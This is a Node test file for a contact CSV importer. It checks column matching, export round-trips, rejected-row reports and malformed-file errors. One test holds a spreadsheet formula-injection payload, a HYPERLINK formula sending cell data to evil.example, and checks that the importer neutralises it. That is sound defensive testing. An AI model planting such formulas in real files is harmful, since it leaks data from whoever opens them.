import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { createTestApp, type TestTeam } from '../../../test/app.ts'
import { importCsvFile } from './import-file.ts'

const posthorn = await createTestApp()
const folder = mkdtempSync(join(tmpdir(), 'posthorn-csv-'))
after(() => rmSync(folder, { recursive: true }))

let files = 0
const importText = (team: TestTeam, content: string | Buffer) => {
  const path = join(folder, `contacts${++files}.csv`)
  writeFileSync(path, content)
  const result = importCsvFile(posthorn.app, { teamId: team.id, segmentId: undefined }, path, () => undefined)
  return { path, result, rejected: () => readFileSync(path.replace('.csv', '.rejected.csv'), 'utf8') }
}

const emails = async (team: TestTeam) =>
  (await team.api.get('/v1/contacts?limit=100')).body.data.map(({ email }: { email: string }) => email)

test('columns are recognized by name in any spelling and order, and others are ignored and reported', async () => {
  const team = await posthorn.team()
  const text =
    '\ufeffLast Name;City;"Phone-Number";EMAIL;first_name;unsubscribed\r\nLovelace;London; ;ada@example.com ;Ada;YES\r\n'
  const { ignoredColumns, ...totals } = await importText(team, text).result
  assert.deepEqual(ignoredColumns, ['City'])
  assert.deepEqual([totals.rows, totals.created], [1, 1])
  const [ada] = (await team.api.get('/v1/contacts')).body.data
  const { email, firstName, lastName, phoneNumber, unsubscribed } = ada
  assert.deepEqual(
    [email, firstName, lastName, phoneNumber, unsubscribed],
    ['ada@example.com', 'Ada', 'Lovelace', null, true],
  )
  const again = await importText(team, 'email,first_name,unsubscribed\nada@example.com,,no\n').result
  assert.equal(again.unchanged, 1, 'empty cells clear nothing, and nobody is resubscribed')
})

test('the column of properties that an export writes is read again, to the last digit', async () => {
  const [team, other] = [await posthorn.team(), await posthorn.team()]
  const properties = '{"id":9007199254740993,"city":"Londón, UK"}'
  await team.api.post('/v1/contacts', `{"email":"ada@example.com","properties":${properties}}`)
  const exported = (await team.api.get('/v1/contacts/export')).text
  assert.equal((await importText(other, exported).result).created, 1)
  assert.match((await other.api.get('/v1/contacts')).text, /"properties":\{"id":9007199254740993,"city":"Londón, UK"\}/)
  const { result, rejected } = importText(
    other,
    'email,properties\nbob@example.com,London\nada@example.com,"{""a"":1}"\n',
  )
  assert.equal((await result).updated, 1)
  assert.match(rejected(), /bob.*properties: must be a JSON object/)
})

test('rejected rows are written to a file with the reason, ready to be corrected', async () => {
  const team = await posthorn.team()
  const text =
    'email,first name\ngood@example.com,G\nbad,"a ""b"", c"\nshort@example.com\n\nx@example.com,"two\nlines"\n'
  const { result, rejected } = importText(team, text)
  const { rows, created, rejected: count } = await result
  assert.deepEqual([rows, created, count], [4, 1, 3])
  assert.deepEqual(rejected().split('\r\n'), [
    'email,first name,reason',
    'bad,"a ""b"", c","line 3: email: must be one bare address, such as ada@example.com"',
    'short@example.com,line 4: has 1 cells where the header has 2',
    'x@example.com,"two\nlines",line 6: firstName: must not hold line breaks or other control characters',
    '',
  ])
  const corrected = rejected()
    .replace('bad,', 'b@example.com,')
    .replace('\nlines', ' lines')
    .replace(/^short.*\r\n/m, '')
  assert.equal((await importText(team, corrected).result).created, 2)
})

test('a spreadsheet sees no formula in the rejected rows, and after correction they import unchanged', async () => {
  const team = await posthorn.team()
  const link = '=HYPERLINK(""http://evil.example/?""&A1,""Open"")'
  const text = `email,first name,last name,phone number,=cmd\nbad,"${link}",@SUM(A1),+61412345678,"\t-1"\n-bad,'=2,-3,,\n`
  const { result, rejected } = importText(team, text)
  assert.equal((await result).rejected, 2)
  const lines = rejected().split('\r\n')
  assert.deepEqual(lines[0], "email,first name,last name,phone number,'=cmd,reason")
  assert.ok(lines[1]!.startsWith(`bad,"'${link}",'@SUM(A1),'+61412345678,"'\t-1","line 2`), lines[1])
  assert.ok(lines[2]!.startsWith("'-bad,'=2,'-3,,,"), lines[2])
  const corrected = rejected().replace('bad,', 'ada@example.com,').replace("'-bad,", 'bob@example.com,')
  assert.equal((await importText(team, corrected).result).created, 2)
  const [bob, ada] = (await team.api.get('/v1/contacts')).body.data
  assert.deepEqual(
    [ada.firstName, ada.lastName, ada.phoneNumber],
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '@SUM(A1)', '+61412345678'],
  )
  assert.deepEqual([bob.firstName, bob.lastName], ['=2', '-3'])
})

test('a file that is not CSV is refused with the line of the fault, and the rows before it are imported', async () => {
  const team = await posthorn.team()
  const refused = async (content: string | Buffer, message: RegExp) =>
    assert.rejects(importText(team, content).result, { message })
  await refused('email\na@example.com\n"b@example.com\n', /^line 3: a quote is opened/)
  await refused('email\nb@example.com\n"c"d\n', /^line 3: there is text after a closing quote/)
  assert.deepEqual(await emails(team), ['b@example.com', 'a@example.com'])
  await refused('', /^line 1: the file is empty/)
  await refused('\n\nname,mail\n', /^line 3: there is no column "email".*name, mail/)
  await refused('email,e-mail\n', /^line 1: there are two columns for email/)
  await refused(Buffer.from('email\nf\u00fc@example.com\n', 'latin1'), /^line 1: .*not UTF-8/)
  assert.equal((await emails(team)).length, 2)
})
